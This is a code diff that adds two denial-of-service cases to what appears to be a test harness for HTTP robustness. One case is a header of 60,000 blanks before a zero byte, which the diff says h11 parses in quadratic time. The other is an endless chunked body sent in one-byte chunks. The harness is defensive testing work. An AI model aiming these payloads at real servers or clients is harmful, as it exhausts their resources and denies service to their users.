@@ -92,6 +92,22 @@ async def endless_trailers(target: Target, seconds: float) -> Result:
     return await ask(target, seconds, endless(begin, b"a: b\r\n" * (PIECE // 6)))
 
 
+async def blanks(target: Target, seconds: float) -> Result:
+    """Answer with a field of blanks before a zero byte, which h11 reads in quadratic time."""
+
+    async def answer(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writer.write(OK + b"a:" + b" " * 60_000 + b"\0\r\n\r\n")
+        await writer.drain()
+
+    return await ask(target, seconds, answer)
+
+
+async def small_chunks(target: Target, seconds: float) -> Result:
+    piece = b"1\r\n \r\n"
+    begin = OK + b"transfer-encoding: chunked\r\n\r\n"
+    return await ask(target, seconds, endless(begin, piece * (PIECE // len(piece))))
+
+
 async def endless_body(target: Target, seconds: float) -> Result:
     piece = b"1000\r\n" + b" " * 4096 + b"\r\n"
     return await ask(target, seconds, endless(OK + b"transfer-encoding: chunked\r\n\r\n", piece * (PIECE // 4096)))
@@ -156,6 +172,10 @@ ATTACKS = {
                               configure=hostile_norce, rates=NO_READS),
     "endless-trailers": Attack(summary="trailers of Norce without end", strike=endless_trailers,
                                configure=hostile_norce, rates=NO_READS),
+    "blanks": Attack(summary="a field of blanks in an answer of Norce", strike=blanks,
+                     configure=hostile_norce, rates=NO_READS),
+    "small-chunks": Attack(summary="a body of Norce in chunks of a byte", strike=small_chunks,
+                           configure=hostile_norce, rates=NO_READS),
     "endless-answer": Attack(summary="a body of Norce without end", strike=endless_body,
                              configure=hostile_norce, rates=NO_READS),
     "dripping-answer": Attack(summary="an answer of Norce of a byte a second", strike=dripping_body,
